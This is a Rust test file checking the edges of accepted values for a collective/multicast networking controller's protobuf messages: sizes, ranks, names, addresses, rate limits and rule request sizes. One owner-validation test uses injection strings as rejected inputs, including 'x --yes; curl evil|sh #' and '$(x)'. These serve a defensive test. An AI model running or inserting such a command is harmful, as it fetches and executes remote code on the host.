//! The edges of what is accepted: the largest value and one more, the smallest and one less.

use std::fmt::Debug;

use castnet_wire::{Call, CallFlags, DataType, DropReason, Operation, Primitive};

use super::*;
use crate::v1;

/// A number of a message, which is good up to an edge. Faults name `field` alone.
struct Edge<M> {
    field: &'static str,
    set: fn(&mut M, u32),
    good: &'static [u32],
    bad: &'static [u32],
}

fn check<M: Clone, T: Debug>(
    message: &M,
    read: impl Fn(&M) -> Result<T, Invalid>,
    edges: impl IntoIterator<Item = Edge<M>>,
) {
    for Edge {
        field,
        set,
        good,
        bad,
    } in edges
    {
        let read = |value: u32| {
            let mut message = message.clone();
            set(&mut message, value);
            read(&message)
        };
        for value in good {
            assert!(read(*value).is_ok(), "{field} {value}: {:?}", read(*value));
        }
        for value in bad {
            let invalid = read(*value).expect_err(field);
            let fields: Vec<&str> = invalid
                .faults()
                .iter()
                .map(|fault| fault.field.as_str())
                .collect();
            assert_eq!(fields, [field], "{value}: {invalid}");
        }
    }
}

/// `field: |message, number| what sets it => good numbers, bad ones;`
macro_rules! edges {
    ($M:ty { $($field:literal: |$m:ident, $n:ident| $set:expr => $good:tt, $bad:tt;)* }) => {
        [$(Edge::<$M> { field: $field, set: |$m: &mut $M, $n: u32| { $set; }, good: &$good, bad: &$bad },)*]
    };
}

fn connection(last: u32) -> v1::Connection {
    v1::Connection {
        ip: format!("10.0.0.{last}"),
        mac: format!("02:00:00:00:00:{last:02x}"),
        qpn: 17,
        ..Default::default()
    }
}

fn more_lanes(count: u32) -> Vec<v1::LaneConnection> {
    let lane = |n| v1::LaneConnection {
        qpn: 100 + n,
        memory: None,
    };
    (0..count).map(lane).collect()
}

/// Names of groups: only the first and the last are good. A job with the name of a group of MRP kept hosts from registering that group.
fn group_name(n: u32) -> String {
    ["10.200.0", "10.200.0.56", ".", "..", "mrp-10.0.0.200", "mrp"][n as usize].into()
}

pub(super) fn joining() -> v1::InitGroupRequest {
    v1::InitGroupRequest {
        job: "job".into(),
        rank: 1,
        size: 4,
        host: "h1".into(),
        connection: Some(connection(2)),
        ..Default::default()
    }
}

pub(super) fn settings(message: &mut v1::InitGroupRequest) -> &mut v1::CollectiveSettings {
    message.settings.get_or_insert_default()
}

#[test]
fn numbers_of_a_join_are_taken_up_to_their_edges() {
    let edges = edges! { v1::InitGroupRequest {
        "size": |m, n| m.size = n => [2, 1024], [0, 1, 1025, 65_536 + 4];
        "rank": |m, n| m.rank = n => [0, 3], [4, 65_536];
        "job": |m, n| m.job = "j".repeat(n as usize) => [1, 63], [0, 64];
        "job": |m, n| m.job = group_name(n) => [0, 5], [1, 2, 3, 4];
        "lease_ms": |m, n| m.lease_ms = n => [0, 1, 600_000], [600_001];
        "sq_psn": |m, n| m.sq_psn = n => [0, 0xFF_FFFF], [0x100_0000];
        "secret": |m, n| m.secret = vec![0; n as usize] => [0, 256], [257];
        "connection.qpn": |m, n| m.connection.as_mut().unwrap().qpn = n => [2, 0xFF_FFFE], [0, 1, 0xFF_FFFF, 0x100_0000];
        "connection.more_lanes": |m, n| m.connection.as_mut().unwrap().more_lanes = more_lanes(n) => [0, 15], [16];
        "settings.pmtu": |m, n| settings(m).pmtu = n => [0, 256, 512, 1024, 2048, 4096], [255, 257, 4095, 8192];
        // In messages of 16 packets, if nothing else is given.
        "settings.window_packets": |m, n| settings(m).window_packets = n => [0, 16, 16 * 496], [1, 16 * 496 + 1, 16_385, 65_536 + 16];
        "settings.window_packets": |m, n| (settings(m).window_packets, settings(m).message_packets) = (n, 34) => [34, 16_384], [16_385];
        "settings.window_packets": |m, n| (settings(m).window_packets, settings(m).message_packets) = (n, 1) => [2, 496], [497];
        "settings.message_packets": |m, n| settings(m).message_packets = n => [0, 1, 16_384], [16_385, 65_536 + 16];
        "settings.message_packets": |m, n| (settings(m).window_packets, settings(m).message_packets) = (40, n) => [1, 40], [41];
        "settings.ack_timeout_us": |m, n| settings(m).ack_timeout_us = n => [0, 4, u32::MAX], [1, 3];
        "settings.lanes": |m, n| settings(m).lanes = n => [0, 1, 16], [17, 256, 257];
        "settings.mode": |m, n| settings(m).mode = n as i32 => [0, 1, 2, 3], [4, u32::MAX];
        "settings.loss_policy": |m, n| settings(m).loss_policy = n as i32 => [0, 1, 2], [3, u32::MAX];
        "settings.straggler_policy": |m, n| settings(m).straggler_policy = n as i32 => [0, 1, 2, 3], [4, u32::MAX];
    } };
    check(&joining(), rank_join_from_proto, edges);
    assert_eq!(
        [496, 497].map(|window| too_many_messages(window, 0)),
        [false, true]
    );
}

/// Repeated reflections need a mode that reflects, of the group and of each switch.
#[test]
fn only_translated_switches_reflect() {
    for (mode, there, reflects) in [
        (0, 0, true),
        (1, 1, true),
        (2, 1, false),
        (1, 2, false),
        (0, 3, false),
    ] {
        let mut message = joining();
        let switch = v1::SwitchMode {
            switch: "leaf1".into(),
            mode: there,
        };
        (settings(&mut message).mode, settings(&mut message).modes) = (mode, vec![switch]);
        settings(&mut message).loss_policy = v1::CollectiveLossPolicy::Reflect.into();
        let refused = |message: &v1::InitGroupRequest| {
            rank_join_from_proto(message).is_err_and(|e| e.to_string().contains("loss_policy"))
        };
        assert_eq!(!refused(&message), reflects, "{mode}, {there}");
        settings(&mut message).loss_policy = v1::CollectiveLossPolicy::Repair.into();
        assert!(!refused(&message));
    }
}

#[test]
fn numbers_of_an_exchange_are_taken_up_to_their_edges() {
    let exchange = v1::ExchangeRequest {
        job: "job".into(),
        rank: 0,
        size: 1,
        ..Default::default()
    };
    let edges = edges! { v1::ExchangeRequest {
        "size": |m, n| m.size = n => [1, 1024], [0, 1025];
        "rank": |m, n| m.rank = n => [0], [1];
        "blob": |m, n| m.blob = vec![0; n as usize] => [0, 65_536], [65_537];
        "secret": |m, n| m.secret = vec![0; n as usize] => [256], [257];
        "timeout_ms": |m, n| m.timeout_ms = n => [0, 600_000], [600_001];
        "among": |m, n| m.among = n as i32 => [0, 2], [3];
    } };
    check(&exchange, |m| exchange_from_proto(m.clone()), edges);
    let call = exchange_from_proto(exchange).expect("good");
    assert_eq!(call.timeout.as_millis(), 30_000);
}

#[test]
fn a_collective_group_has_2_to_1024_ranks() {
    let creation = v1::CreateCollectiveRequest {
        name: "job".into(),
        ranks: vec!["h0".into(), "h1".into()],
        ..Default::default()
    };
    let edges = edges! { v1::CreateCollectiveRequest {
        "ranks": |m, n| m.ranks = (0..n).map(|n| format!("h{n}")).collect() => [2, 1024], [0, 1, 1025];
        "name": |m, n| m.name = "j".repeat(n as usize) => [1, 63], [0, 64];
        "name": |m, n| m.name = group_name(n) => [0, 5], [1, 2, 3, 4];
        "description": |m, n| m.description = "d".repeat(n as usize) => [0, 200], [201];
        "name": |m, n| (m.name, m.settings) = ("j".repeat(n as usize), Some(v1::CollectiveSettings { lanes: 2, ..Default::default() })) => [61], [62];
    } };
    check(&creation, new_collective_from_proto, edges);
    let mut twice = creation;
    twice.ranks.push("h0".into());
    let invalid = new_collective_from_proto(&twice).expect_err("twice");
    assert_eq!(invalid.faults()[0].field, "ranks[2]");
    assert!(invalid.to_string().contains("ranks[0]"), "{invalid}");
}

pub(super) fn creation() -> v1::CreateGroupRequest {
    let member = |host: &str, last| v1::NewMember {
        host: host.into(),
        connection: Some(connection(last)),
    };
    v1::CreateGroupRequest {
        name: "g".into(),
        source: "a".into(),
        members: vec![member("a", 1), member("b", 2)],
        ..Default::default()
    }
}

#[test]
fn numbers_of_a_creation_are_taken_up_to_their_edges() {
    let edges = edges! { v1::CreateGroupRequest {
        "name": |m, n| m.name = "g".repeat(n as usize) => [1, 63], [0, 64];
        "name": |m, n| m.name = group_name(n) => [0, 5], [1, 2, 3, 4];
        "description": |m, n| m.description = "d".repeat(n as usize) => [0, 200], [201];
        "start_psn": |m, n| m.start_psn = Some(n) => [0, 0xFF_FFFF], [0x100_0000];
        "pmtu": |m, n| m.pmtu = n => [0, 256, 4096], [255, 8192];
        "on_member_loss": |m, n| m.on_member_loss = n as i32 => [0, 1, 2], [3, u32::MAX];
        "any_source": |m, n| m.any_source = n as i32 => [0, 1, 2], [3, u32::MAX];
        "distribution": |m, n| m.distribution = format!("static:{n}") => [1, 1024], [0, 1025, 65_537];
        "on_member_stall.after_ms": |m, n| m.on_member_stall = Some(v1::StallPolicy { after_ms: n, then: 0 }) => [0, 1, 600_000], [600_001];
        "repair.slots": |m, n| m.repair = Some(v1::MulticastRepair { slots: n, ack_timeout_us: 0 }) => [0, 2, 32_768], [1, 3, 32_769, 65_536];
        "rate_limit.burst_bytes": |m, n| m.rate_limit = Some(v1::RateLimit { bits_per_second: 1000, burst_bytes: n.into() }) => [0, 1152, 1 << 30], [1, 1151, (1 << 30) + 1];
        "rate_limit.bits_per_second": |m, n| m.rate_limit = Some(v1::RateLimit { bits_per_second: 1_000_000_000_000 - 1_000_000 + u64::from(n), burst_bytes: 0 }) => [1_000_000], [1_000_001];
        "rate_limit.bits_per_second": |m, n| m.rate_limit = Some(v1::RateLimit { bits_per_second: n.into(), burst_bytes: 0 }) => [1000], [0, 999];
    } };
    check(&creation(), new_group_from_proto, edges);
}

/// Several lanes leave 61 characters for the name, and need one sender.
#[test]
fn lanes_limit_the_name_and_the_senders() {
    let laned = |lanes: u32, name: usize, any_source: i32| {
        let mut message = v1::CreateGroupRequest {
            lanes,
            name: "g".repeat(name),
            any_source,
            ..creation()
        };
        for member in &mut message.members {
            let connection = member.connection.as_mut().expect("a connection");
            connection.more_lanes = more_lanes(lanes.saturating_sub(1));
        }
        new_group_from_proto(&message).map(|group| group.lanes)
    };
    for (lanes, name, any_source, field) in [
        (0, 63, 1, None),
        (1, 63, 1, None),
        (2, 61, 0, None),
        (16, 61, 0, None),
        (2, 62, 0, Some("name")),
        (2, 61, 1, Some("lanes")),
    ] {
        let result = laned(lanes, name, any_source);
        let named = result
            .as_ref()
            .err()
            .map(|invalid| invalid.faults()[0].field.as_str());
        assert_eq!(named, field, "{lanes} lanes");
        assert!(field.is_some() || result == Ok(lanes.max(1) as u8));
    }
}

#[test]
fn policies_of_a_creation_are_read() {
    let mut message = creation();
    message.on_member_loss = v1::MemberLoss::Fail.into();
    message.stall_timeout_ms = 7;
    let group = new_group_from_proto(&message).expect("good");
    assert_eq!(
        (
            group.settings.fails_with_receiver,
            group.settings.stall_timeout_ms
        ),
        (true, 7)
    );
    message.on_member_loss = 0;
    message.repair = Some(v1::MulticastRepair::default());
    let group = new_group_from_proto(&message).expect("good");
    assert!(!group.settings.fails_with_receiver);
    assert_eq!(group.settings.repair, Some(castnet_rules::RepairRule::default()));
    message.repair = Some(v1::MulticastRepair {
        slots: 64,
        ack_timeout_us: 5_000,
    });
    let repair = new_group_from_proto(&message).expect("good").settings.repair;
    assert_eq!(
        repair.map(|repair| (repair.slots, repair.ack_timeout_us)),
        Some((64, 5_000))
    );
    // The lease of a member.
    for (given, expected) in [(None, None), (Some(0), Some(5_000)), (Some(9), Some(9))] {
        let lease = lease_from_proto(given).expect("good");
        assert_eq!(lease.map(|lease| lease.as_millis()), expected);
    }
    assert!(lease_from_proto(Some(600_001)).is_err());
}

fn translated() -> v1::GroupRule {
    let set = castnet_rules::RuleSet::from_toml(castnet_rules::COLLECTIVE_EXAMPLE).expect("the example");
    rule_to_proto(&set.groups[0])
}

fn kind(rule: &mut v1::GroupRule) -> &mut v1::TranslatedRule {
    match &mut rule.kind {
        Some(v1::group_rule::Kind::Translated(kind)) => kind,
        _ => panic!("it computes"),
    }
}

fn rank(rule: &mut v1::GroupRule) -> &mut v1::RankPart {
    match &mut rule.endpoints[0].next_hop {
        Some(v1::endpoint::NextHop::Host(v1::HostEndpoint {
            part: Some(v1::host_endpoint::Part::Rank(part)),
            ..
        })) => part,
        _ => panic!("a rank"),
    }
}

#[test]
fn numbers_of_a_rule_are_taken_up_to_their_edges() {
    let edges = edges! { v1::GroupRule {
        "rule.endpoints[0].port": |m, n| m.endpoints[0].port = n => [63], [64, 256];
        "rule.translated.start_psn": |m, n| kind(m).start_psn = n => [0, 0xFF_FFFF], [0x100_0000];
        "rule.translated.message_packets": |m, n| kind(m).message_packets = n => [], [65_536];
        "rule.translated.slots": |m, n| kind(m).slots = n => [32_768], [32_769, 65_536];
        "rule.translated.parent": |m, n| kind(m).parent = Some(n) => [], [1024, 65_536];
        "rule.endpoints[0].host.rank": |m, n| rank(m).rank = n => [0], [1024, 65_536];
        "rule.endpoints[0].host.rank.sq_psn": |m, n| rank(m).sq_psn = n => [0xFF_FFFF], [0x100_0000];
        "rule.endpoints[0].host.rank.rq_psn": |m, n| rank(m).rq_psn = n => [0xFF_FFFF], [0x100_0000];
        "rule.endpoints[0].virtual_qpn": |m, n| m.endpoints[0].virtual_qpn = Some(n) => [1, 0xFF_FFFE], [0x100_0000];
    } };
    check(&translated(), |m| rule_from_proto("rule", Some(m)), edges);
}

#[test]
fn numbers_of_a_call_are_taken_up_to_their_edges() {
    let call = Call {
        primitive: Primitive::Reduce,
        root: 0,
        roots: 1,
        operation: Operation::Sum,
        data_type: DataType::F32,
        flags: CallFlags::NONE,
        elements: 1024,
        packets: 4,
    };
    let edges = edges! { v1::CollectiveCall {
        "call.root": |m, n| m.root = n => [0, 1023, 65_535], [65_536];
        "call.further_roots": |m, n| m.further_roots = n => [0, 7], [8, 65_535, 65_536];
        "call.primitive": |m, n| m.primitive = n as i32 => [1], [0, 256, 257];
        "call.operation": |m, n| m.operation = n as i32 => [1], [256, 257];
        "call.data_type": |m, n| m.data_type = n as i32 => [], [256, 257];
    } };
    check(&call_to_proto(&call), |m| call_from_proto("call", m), edges);
}

#[test]
fn a_filter_says_which_of_its_fields_is_wrong() {
    type M = v1::FrameFilter;
    let edges = edges! { M {
        "filter.port": |m, n| m.port = Some(n) => [0, 63], [64, 256];
    } };
    check(&M::default(), |m| filter_from_proto("filter", Some(m)), edges);
    let all = DropReason::ALL.iter().map(|reason| {
        let filter = M {
            drop_reason: Some(reason.name().into()),
            ..Default::default()
        };
        filter_from_proto("filter", Some(&filter))
            .expect("a reason")
            .reason
    });
    let all: Vec<_> = all.collect();
    assert!(all.iter().copied().eq(DropReason::ALL.iter().copied().map(Some)));
    let wrong = M {
        mcst_id: Some("1".into()),
        src_ip: Some("2".into()),
        dst_ip: Some("3".into()),
        drop_reason: Some("rain".into()),
        ..Default::default()
    };
    let invalid = filter_from_proto("filter", Some(&wrong)).expect_err("four faults");
    let fields: Vec<&str> = invalid.faults().iter().map(|f| f.field.as_str()).collect();
    assert_eq!(
        fields,
        [
            "filter.mcst_id",
            "filter.src_ip",
            "filter.dst_ip",
            "filter.drop_reason"
        ]
    );
}

#[test]
fn the_address_of_a_group_is_a_unicast_address_that_no_host_has() {
    for (text, is_good) in [
        ("0.255.255.255", false),
        ("1.0.0.0", true),
        ("126.255.255.255", true),
        ("127.0.0.0", false),
        ("128.0.0.0", true),
        ("223.255.255.255", true),
        ("224.0.0.0", false),
        ("255.255.255.255", false),
        ("", false),
        ("10.0.0", false),
    ] {
        let message = v1::CreateGroupRequest {
            mcst_id: Some(text.into()),
            ..creation()
        };
        assert_eq!(new_group_from_proto(&message).is_ok(), is_good, "{text}");
    }
}

#[test]
fn a_name_has_63_plain_characters_at_most() {
    for c in (0..=0x17F).filter_map(char::from_u32) {
        let is_plain = c.is_ascii_alphanumeric() || "-_.".contains(c);
        assert_eq!(name_from_proto("name", &c.to_string()).is_ok(), is_plain, "{c:?}");
    }
    let of_length = |n| name_from_proto("name", &"n".repeat(n)).is_ok();
    assert_eq!([0, 1, 63, 64].map(of_length), [false, true, true, false]);
}

#[test]
fn a_reason_is_a_line_of_512_bytes_at_most() {
    let is_good = |text: &str| {
        let given = reason_from_proto("reason", text.into());
        let (bytes, lacks) = (0, text.into());
        let has_all = text.is_empty();
        let received = check_received(&v1::Received { bytes, lacks });
        assert_eq!(received.is_ok(), given.is_ok() || has_all);
        given.is_ok()
    };
    for (text, expected) in [
        (String::new(), false),
        ("r".into(), true),
        ("r".repeat(512), true),
        ("r".repeat(513), false),
        ("two\nlines".into(), false),
    ] {
        assert_eq!(is_good(&text), expected, "{} bytes", text.len());
        let line = reason_line(&text);
        assert_eq!(is_good(&line), !text.is_empty());
        assert_eq!(line == text, expected || text.is_empty());
    }
    // It is cut between characters: 511 bytes and one of two.
    let long = "r".repeat(511) + "\u{e9}";
    assert_eq!(reason_line(&long), "r".repeat(511));
    assert_eq!(reason_line(&long[1..]), &long[1..]);
}

/// A client that had joined nowhere wrote a command with its own additions into the log of a controller.
#[test]
fn an_owner_is_a_plain_name_and_that_of_a_controller_one_word() {
    let (longest, too_long) = ("o".repeat(255), "o".repeat(256));
    for (owner, of_any, of_controller) in [
        ("", true, true),
        ("controller-00c0ffee00c0ffee", true, true),
        ("a_b.c:1", true, true),
        ("MRP leader 10.0.0.1", true, false),
        ("x --yes; curl evil|sh #", false, false),
        ("$(x)", false, false),
        ("two\nlines", false, false),
        ("\u{e9}", false, false),
        (longest.as_str(), true, true),
        (too_long.as_str(), false, false),
    ] {
        let term = v1::ControllerTerm {
            owner: owner.into(),
            ..Default::default()
        };
        let is_good = (check_owner(owner).is_ok(), check_term(&term).is_ok());
        assert_eq!(is_good, (of_any, of_controller), "{owner:?}");
    }
}

#[test]
fn a_refused_text_is_shown_up_to_64_characters() {
    let shown = |n: usize| {
        let invalid = mcst_id_from_proto("mcst_id", &"9".repeat(n)).expect_err("no address");
        invalid.to_string()
    };
    assert!(shown(64).contains(&"9".repeat(64)) && !shown(64).contains("..."));
    assert!(shown(65).contains(&("9".repeat(64) + "...")) && !shown(65).contains(&"9".repeat(65)));
}

#[test]
fn a_refusal_counts_the_faults_that_it_does_not_name() {
    let refused = |count: u32| {
        let fault = |n| Fault::new(format!("f{n}"), missing("a number"));
        let invalid = Invalid::all((0..count).map(fault).collect()).expect("faults");
        let status = Status::from(invalid);
        (violations(&status).len(), status.message().to_owned())
    };
    let (named, message) = refused(32);
    assert_eq!((named, message.contains("more")), (32, false));
    let (named, message) = refused(33);
    assert_eq!((named, message.ends_with("; and 1 more")), (33, true));
}

/// To the byte: a rule goes into the request if that has a mebibyte of rules with it.
#[test]
fn a_request_has_a_mebibyte_of_rules_at_most() {
    let rule = |bytes: usize| {
        let set = castnet_rules::RuleSet::from_toml(castnet_rules::COLLECTIVE_EXAMPLE).expect("the example");
        let mut rule = set.groups[0].clone();
        // Lengths of 16,384 to 2,097,151 take three bytes.
        rule.name = "n".repeat(16_384);
        let rest = rule_to_proto(&rule).encoded_len() - 16_384;
        rule.name = "n".repeat(bytes - rest);
        assert_eq!(rule_to_proto(&rule).encoded_len(), bytes);
        rule
    };
    let half = 1 << 19;
    for (second, requests) in [(half, vec![2, 1]), (half + 1, vec![1, 2])] {
        let rules = [rule(half), rule(second), rule(half - 1)];
        let counts: Vec<usize> = install_requests("us", &rules).map(|r| r.rules.len()).collect();
        assert_eq!(counts, requests);
    }
}
